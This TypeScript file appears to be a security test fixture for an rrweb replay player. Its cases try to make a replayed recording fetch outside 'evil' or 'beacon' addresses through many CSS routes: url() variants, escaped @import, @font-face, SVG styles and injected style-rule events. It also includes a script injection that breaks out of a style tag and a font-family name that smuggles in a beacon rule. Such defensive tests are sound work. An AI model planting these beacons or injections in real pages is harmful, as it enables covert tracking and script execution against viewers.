import { source } from '../../rrweb.ts'
import type { Attack } from '../attackTape.ts'
import type { Lures } from '../lures.ts'
import { element, findNode, style, svg } from '../../page.ts'

/** Attacks that try to load something by style sheets, so that somebody learns that the recording is watched. */

/** Declarations that lead to an address, each in a way of its own. */
function declarations(address: (way: string) => string): string[] {
  return [
    `background: url(${address('background')})`,
    `background-image: url("${address('quoted')}"), image-set("${address('set')}" 1x, url(${address('set-url')}) 2x)`,
    `background: -webkit-image-set(url(${address('webkit-set')}) 1x)`,
    `background: u\\72l(${address('escaped')})`,
    `background: URL( ${address('case')} )`,
    `border-image: url(${address('border')}) 30`,
    `list-style: url(${address('list')})`,
    `cursor: url(${address('cursor')}), auto`,
    `content: url(${address('content')})`,
    `mask-image: url(${address('mask')})`,
    `-webkit-mask-box-image: url(${address('mask-box')})`,
    `clip-path: url(${address('clip')}#p)`,
    `filter: url(${address('filter')}#f)`,
    `shape-outside: url(${address('shape')})`,
    `offset-path: url(${address('offset')}#o)`,
    `--tea: url(${address('variable')}); background: var(--tea)`,
    `background: cross-fade(url(${address('fade-one')}), url(${address('fade-two')}), 50%)`,
  ]
}

function imports(address: (way: string) => string): string {
  return (
    `@charset "utf-8"; @import '${address('import')}'; @import url(${address('import-url')}) screen; ` +
    `@\\69mport "${address('import-escaped')}"; @namespace tea url(${address('namespace')});`
  )
}

function sheet(address: (way: string) => string): string {
  const written = declarations(address).map(
    (declaration, order) => `.tea${order}, body::before, p::before { content: ''; ${declaration} }`,
  )
  return (
    `${imports(address)} ${written.join(' ')} ` +
    `@font-face { font-family: Tea; src: url(${address('font')}) format("woff2"), local(Tea), url("${address('font-two')}") } ` +
    `h1, p { font-family: Tea, serif } input[value^="a"] { background: url(${address('letter')}) } ` +
    `@media screen { p { background: url(${address('media')}) } } @supports (color: red) { p { cursor: url(${address('supports')}), auto } } ` +
    `@layer tea { p { list-style-image: url(${address('layer')}) } } @page { background: url(${address('page')}) } ` +
    `@keyframes tea { from { background: url(${address('keyframes')}) } } p { animation: tea 1s } ` +
    `@counter-style tea { symbols: url(${address('counter')}) } @color-profile tea { src: url(${address('profile')}) }`
  )
}

export function styles({ evil, beacon }: Lures): Attack {
  const inline = [...declarations(evil), ...declarations((way) => beacon(`inline-${way}`))].map((declaration, order) =>
    element('div', { style: declaration, class: `tea${order}` }, 'Tea'),
  )
  const sheets = [
    style(sheet(beacon)),
    style(sheet(evil)),
    element('style', { _cssText: sheet((way) => evil(`text-${way}`)) }),
    element('link', { rel: 'stylesheet', href: evil('inlined'), _cssText: sheet((way) => evil(`link-${way}`)) }),
    element('style', { type: 'text/css', media: 'screen' }, '</style><script>top.hacked=1</script>'),
  ]
  return {
    head: sheets,
    body: [
      ...sheets,
      ...inline,
      element('div', {
        style: { background: `url(${evil('object-style')})`, cursor: [`url(${evil('priority')})`, 'important'] },
      }),
      svg(
        'svg',
        {},
        svg(
          'style',
          {},
          sheet((way) => evil(`svg-${way}`)),
        ),
        svg('rect', { style: `fill: url(${evil('svg-fill')})` }),
      ),
    ],
  }
}

function added(address: (way: string) => string) {
  const declared = declarations(address).map((one) => `body::before, p::before, .tea { content: ''; ${one} }`)
  return [...imports(address).split(/(?<=;) /), ...declared].map((rule) => ({ rule, index: 0 }))
}

export function rules({ evil, beacon }: Lures): Attack {
  return {
    body: [style('p { color: teal }'), element('div', { class: 'tea' }, 'Tea')],
    events({ root, bodyId }) {
      const sheetId = findNode(root, ({ tagName }) => tagName === 'style')?.id ?? bodyId
      const properties = { property: 'background-image', value: `url(${evil('declaration')})`, priority: 'important' }
      return [
        { at: 1000, data: { source: source.styleRule, id: sheetId, adds: added(evil), removes: [{ index: 0 }] } },
        { at: 1100, data: { source: source.styleRule, id: sheetId, replaceSync: sheet((way) => evil(`replaced-${way}`)) } },
        { at: 1200, data: { source: source.styleRule, id: sheetId, replace: sheet((way) => beacon(`replaced-${way}`)) } },
        {
          at: 1300,
          data: { source: source.adoptedStyles, id: root.id, styles: [{ styleId: 1, rules: added(beacon) }], styleIds: [1] },
        },
        { at: 1400, data: { source: source.styleRule, styleId: 1, adds: added((way) => evil(`adopted-${way}`)) } },
        { at: 1500, data: { source: source.styleDeclaration, id: sheetId, index: [0], set: properties } },
        { at: 1600, data: { source: source.styleDeclaration, styleId: 1, index: [0, 0], set: { ...properties, value: null } } },
      ]
    },
  }
}

function font(at: number, family: string, fontSource: string, others: object = {}) {
  return { at, data: { source: source.font, family, fontSource, buffer: false, ...others } }
}

export function fonts({ both, evil, beacon }: Lures): Attack {
  return {
    body: [
      element('p', { style: 'font-family: Tea, Kettle, Leaf' }, 'Written in tea'),
      style(`@font-face { font-family: Leaf; src: url(${evil('face')}) } p { font-family: Leaf }`),
    ],
    events: () => [
      ...both('font').map((address, order) =>
        font(900 + order, order === 0 ? 'Tea' : 'Kettle', `url(${address}) format("woff2")`),
      ),
      font(1000, 'Cup', `local(x), url('${evil('second')}')`, { descriptors: { display: 'block', unicodeRange: 'U+0-FFFF' } }),
      font(1100, 'Bytes', '[0, 1, 2, 3]', { buffer: true }),
      font(1200, 'Broken', 'not json', { buffer: true }),
      font(1300, `Tea'; } body { background: url(${beacon('family')})`, 'url()'),
    ],
  }
}
